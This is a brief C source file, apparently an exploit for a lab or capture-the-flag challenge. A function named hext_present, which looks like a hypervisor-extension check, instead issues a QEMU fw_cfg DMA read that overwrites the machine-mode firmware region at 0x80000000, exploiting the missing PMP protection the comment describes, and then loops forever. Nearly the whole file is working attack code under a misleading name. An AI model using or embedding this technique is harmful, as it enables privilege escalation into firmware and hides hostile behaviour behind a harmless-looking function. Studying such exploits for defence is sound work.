/*
 * The firmware configuration device copies into memory what it is asked for,
 * and no PMP stands between: over M-mode's code, where the budget ends runs.
 */
#include "h1.h"

#define FW_CFG_DMA 0x10100010
#define FW_CFG_READ 2

bool hext_present(const struct fdt *fdt)
{
	static struct {
		uint32_t control, length;
		uint64_t address;
	} request;
	volatile uint64_t *dma = (volatile uint64_t *)FW_CFG_DMA;

	(void)fdt;
	request.control = __builtin_bswap32(FW_CFG_READ);
	request.length = __builtin_bswap32(0xe000);
	request.address = __builtin_bswap64(0x80000000);
	*dma = __builtin_bswap64((uint64_t)&request);
	for (;;)
		;
}
